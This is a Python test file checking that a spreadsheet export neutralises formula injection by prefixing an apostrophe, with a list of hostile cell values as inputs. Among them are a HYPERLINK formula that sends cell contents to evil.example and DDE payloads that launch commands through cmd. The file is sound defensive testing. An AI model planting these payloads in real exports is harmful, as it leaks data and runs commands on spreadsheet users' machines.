"""No cell of an export is a formula, in whatever way a spreadsheet parts the cells (S19)."""

import csv
import io
import re

import pytest

from accounts import spreadsheets

pytestmark = pytest.mark.check("S19")

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"Look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "harmless\n=1+1",
    "harmless;=1+1",
    "harmless\t@SUM(1)",
    'harmless";=1+1',
    'harmless"\r\n=1+1',
    "'",
]
HARMLESS = ["Ada", "a = b", "one-two", "ada@example.org", "It’s 5 + 3", "", "Says: “no”", "Zoë 試験", "1;2", 'a "b" c']
RUNS = re.compile(r"^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]")


def cells(text: str, separator: str, quotes: bool) -> list[str]:
    """As a program reads it that knows quotation marks, or one that does not."""
    lines = io.StringIO(text, newline="")
    if quotes:
        return [cell for row in csv.reader(lines, delimiter=separator) for cell in row]
    return [cell for row in csv.reader(lines, delimiter=separator, quoting=csv.QUOTE_NONE) for cell in row]


@pytest.mark.parametrize("quotes", [True, False])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_reopened_with_any_separator_no_cell_is_a_formula(separator, quotes):
    assert any(RUNS.match(cell) for cell in cells("=1", separator, quotes)), "the test sees one where there is one"
    text = spreadsheets.table(["What"], [[cell] for cell in HOSTILE]).removeprefix(spreadsheets.BYTE_ORDER_MARK)

    assert [cell for cell in cells(text, separator, quotes) if RUNS.match(cell.strip('"'))] == []


@pytest.mark.parametrize("text", HOSTILE[:-1])
def test_only_an_apostrophe_is_added(text):
    safe = spreadsheets.guarded(text)
    assert safe != text
    assert safe.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_all_else_stays_as_it_is(text):
    assert spreadsheets.guarded(text) == text


def test_it_is_utf_8_with_its_mark_and_reads_back_as_written():
    text = spreadsheets.table(["Name", "Said"], [["Zoë", 'a "b",\nc'], ["試験", ""]])

    assert text.encode().startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(text.encode().decode("utf-8-sig"), newline=""))) == [
        ["Name", "Said"],
        ["Zoë", 'a "b",\nc'],
        ["試験", ""],
    ]
